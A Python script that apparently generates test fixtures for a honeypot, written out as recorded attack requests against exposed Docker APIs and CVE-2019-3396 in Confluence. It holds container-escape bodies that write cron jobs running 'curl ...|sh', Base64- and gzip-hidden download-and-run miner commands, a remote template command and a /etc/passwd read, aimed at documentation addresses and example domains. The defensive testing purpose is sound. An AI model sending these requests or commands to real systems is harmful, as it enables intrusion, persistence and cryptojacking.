#!/usr/bin/env python3
"""gen_honeypot.py OUTDIR — request fixtures for the honeypot, written by us.

attacks.jsonl follows the shape of the corpus attack samples (one object per
line, {"label", "record": {"method", "url", "headers", "source", "data"}},
data in Base64) with our own content: documentation addresses (RFC 5737),
example.org/example.net names, a Bitcoin address made here from a fixed
hash, nothing fetched or runnable. confluence.jsonl holds CVE-2019-3396
request shapes ({"method", "path", "headers", "body"}).
"""
import base64
import gzip
import hashlib
import json
import os
import sys

out = sys.argv[1]
os.makedirs(out, exist_ok=True)

B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def b58check(payload):
    data = payload + hashlib.sha256(hashlib.sha256(payload).digest()).digest()[:4]
    n = int.from_bytes(data, "big")
    s = ""
    while n:
        n, r = divmod(n, 58)
        s = B58[r] + s
    pad = len(data) - len(data.lstrip(b"\0"))
    return "1" * pad + s


BTC = b58check(b"\x00" + hashlib.sha256(b"mamori honeypot fixture").digest()[:20])


def create_body(cmd, image="alpine", binds=None, privileged=False, pid_mode=""):
    return json.dumps({
        "Hostname": "", "User": "", "AttachStdout": True, "AttachStderr": True,
        "Tty": False, "Env": None, "Cmd": cmd, "Image": image, "Volumes": {},
        "Entrypoint": None, "Labels": {},
        "HostConfig": {"Binds": binds, "NetworkMode": "default", "Privileged": privileged,
                       "PidMode": pid_mode, "CapAdd": None,
                       "RestartPolicy": {"Name": "no", "MaximumRetryCount": 0}},
        "NetworkingConfig": {"EndpointsConfig": {}},
    }, separators=(",", ":")).encode()


def rec(label, method, path, ua, source, body=b"", extra=None):
    headers = [["Host", "198.51.100.20:2375"], ["User-Agent", ua]]
    if body:
        headers += [["Content-Length", str(len(body))], ["Content-Type", "application/json"]]
    headers += extra or []
    return {"label": label, "record": {
        "url": "http://198.51.100.20:2375" + path, "headers": headers, "method": method,
        "source": source, "data": base64.b64encode(body).decode()}}


cron = ('echo "* * * * * root curl http://192.0.2.10/c/cron.sh|sh" >/etc/crontab && '
        'echo "* * * * * root curl http://192.0.2.10/c/cron.sh|sh" >/etc/cron.d/sync')
hostmount = create_body(["chroot", "/mnt/", "/bin/sh", "-c", cron], binds=["/:/mnt"])
inner = "curl -s http://miner.example.org/x.sh | sh"
b64cmd = "echo %s | base64 -d | sh" % base64.b64encode(inner.encode()).decode()
payload = ("wget http://203.0.113.7/bin/xm -O /tmp/xm; chmod +x /tmp/xm; "
           "/tmp/xm -o pool.example.net:3333 -u %s -p x" % BTC)
gz = gzip.compress(payload.encode(), mtime=0)
gzcmd = "echo %s | base64 -d | gunzip | sh" % base64.b64encode(gz).decode()
priv = create_body(["sh", "-c", b64cmd + "; " + gzcmd], privileged=True, pid_mode="host")
plain = create_body(["--donate-level", "1", "-o", "stratum+tcp://pool.example.com:4444",
                     "-u", BTC], image="example/miner:2.1")

lines = [
    rec("recon_version", "GET", "/version", "Mozilla/5.0 zgrab/0.x", "192.0.2.50"),
    rec("ping_head", "HEAD", "/_ping", "Docker-Client/20.10.6 (linux)", "192.0.2.51"),
    rec("create_hostmount_before_pull", "POST", "/v1.24/containers/create",
        "Go-http-client/1.1", "192.0.2.52", hostmount),
    rec("pull_alpine", "POST", "/v1.24/images/create?fromImage=alpine&tag=latest",
        "Go-http-client/1.1", "192.0.2.52"),
    rec("create_hostmount_retry", "POST", "/v1.24/containers/create",
        "Go-http-client/1.1", "192.0.2.52", hostmount),
    rec("create_privileged_encoded", "POST", "/v1.41/containers/create",
        "Go-http-client/1.1", "192.0.2.53", priv),
    rec("pull_miner", "POST", "/images/create?fromImage=example%2Fminer&tag=2.1",
        "python-requests/2.25.1", "192.0.2.54"),
    rec("create_miner_plain", "POST", "/containers/create?name=sync",
        "python-requests/2.25.1", "192.0.2.54", plain),
    rec("build_remote", "POST", "/v1.40/build?t=tools&remote=http%3A%2F%2F198.51.100.5%2Fctx.tar",
        "Go-http-client/1.1", "192.0.2.55"),
    rec("images_list", "GET", "/v1.24/images/json", "Go-http-client/1.1", "192.0.2.56"),
    rec("unknown_path", "GET", "/v1.41/nothing/here", "curl/7.88.1", "192.0.2.57"),
    rec("too_new", "GET", "/v1.99/version", "curl/7.88.1", "192.0.2.57"),
]
with open(os.path.join(out, "attacks.jsonl"), "w") as f:
    for l in lines:
        f.write(json.dumps(l) + "\n")
    f.write("not json at all\n")


def widget(template, extra=None):
    params = {"url": "https://video.example.com/v/abc", "width": "1000", "height": "1000",
              "_template": template}
    params.update(extra or {})
    return json.dumps({"contentId": "1", "macro": {"name": "widget", "body": "",
                                                   "params": params}})


conf = [
    {"label": "file_read_web_xml", "method": "POST", "path": "/rest/tinymce/1/macro/preview",
     "headers": [["Referer", "http://198.51.100.30:8090"]], "body": widget("../web.xml")},
    {"label": "file_read_passwd", "method": "POST", "path": "/rest/tinymce/1/macro/preview",
     "headers": [["Content-Type", "application/json; charset=utf-8"],
                 ["X-Requested-With", "XMLHttpRequest"]],
     "body": widget("file:///etc/passwd")},
    {"label": "remote_template_cmd", "method": "POST", "path": "/rest/tinymce/1/macro/preview",
     "headers": [["Content-Type", "application/json; charset=utf-8"]],
     "body": widget("ftp://198.51.100.9:2121/cmd.vm", {"cmd": "curl http://198.51.100.9/ddos.sh|sh"})},
    {"label": "preview_without_template", "method": "POST",
     "path": "/rest/tinymce/1/macro/preview",
     "headers": [["Content-Type", "application/json"]],
     "body": json.dumps({"contentId": "1", "macro": {"name": "widget", "params": {}}})},
    {"label": "login_page", "method": "GET", "path": "/login.action", "headers": [], "body": ""},
]
with open(os.path.join(out, "confluence.jsonl"), "w") as f:
    for l in conf:
        f.write(json.dumps(l) + "\n")

with open(os.path.join(out, "wallet.txt"), "w") as f:
    f.write(BTC + "\n")

# A create whose command decodes (Base64) to an xmrig-style command line with
# a pool and a Monero address: the honeypot hands the decoded text to the file
# engine, whose miner analyser must see the command line. The address is one
# the other fixtures already use (valid checksum, made by gen_wallets.py).
XMR = ("4AKGFPLCEowJVyjQPACyXaaqk7ZnnxKPxc8UpzduHzE73YsPghMAXvUFPtGu37NWxkh"
       "bqVgGxRyxMZdQjwadaxRPHe8J6Vo")
miner_line = ("/tmp/.x/kthreaddi --donate-level 1 -o pool.example.net:3333 -u %s "
              "-p x -k --background\n" % XMR)
miner_cmd = 'echo %s | base64 -d | sh' % base64.b64encode(miner_line.encode()).decode()
payload_lines = [
    rec("pull_alpine", "POST", "/v1.41/images/create?fromImage=alpine&tag=latest",
        "Go-http-client/1.1", "192.0.2.60"),
    rec("create_base64_miner", "POST", "/v1.41/containers/create",
        "Go-http-client/1.1", "192.0.2.60", create_body(["sh", "-c", miner_cmd])),
]
with open(os.path.join(out, "attacks-payload.jsonl"), "w") as f:
    for l in payload_lines:
        f.write(json.dumps(l) + "\n")

# The same Base64 miner command in the `cmd` parameter of a CVE-2019-3396
# preview request: the Confluence emulation hands the decoded text to the
# file engine too.
conf_payload = {"label": "cve_2019_3396_base64_cmd", "method": "POST",
                "path": "/rest/tinymce/1/macro/preview",
                "headers": [["Content-Type", "application/json; charset=utf-8"]],
                "body": json.dumps({"contentId": "1", "macro": {
                    "name": "widget", "body": "", "params": {
                        "url": "https://www.viddler.com/v/23464dc6", "width": "1000",
                        "height": "1000", "_template": "ftp://198.51.100.7/x.vm",
                        "cmd": miner_cmd}}})}
with open(os.path.join(out, "confluence-payload.jsonl"), "w") as f:
    f.write(json.dumps(conf_payload) + "\n")

# An image pulled, a container created plainly, then an exec in it (by name) whose command is
# an xmrig-style command line with a pool and a Monero address, and a second
# exec that hides the same line in Base64: the honeypot hands each exec
# command (and what it decodes to) to the file engine.
exec_lines = [
    rec("pull_alpine", "POST", "/v1.41/images/create?fromImage=alpine&tag=latest",
        "Go-http-client/1.1", "192.0.2.61"),
    rec("create_named", "POST", "/v1.41/containers/create?name=web",
        "Go-http-client/1.1", "192.0.2.61", create_body(["sleep", "3600"])),
    rec("exec_plain_miner", "POST", "/v1.41/containers/web/exec",
        "Go-http-client/1.1", "192.0.2.61",
        json.dumps({"AttachStdout": True, "Cmd": ["sh", "-c", miner_line.strip()]}).encode()),
    rec("exec_base64_miner", "POST", "/v1.41/containers/web/exec",
        "Go-http-client/1.1", "192.0.2.61",
        json.dumps({"AttachStdout": True, "Cmd": ["sh", "-c", miner_cmd]}).encode()),
]
with open(os.path.join(out, "exec-payload.jsonl"), "w") as f:
    for l in exec_lines:
        f.write(json.dumps(l) + "\n")
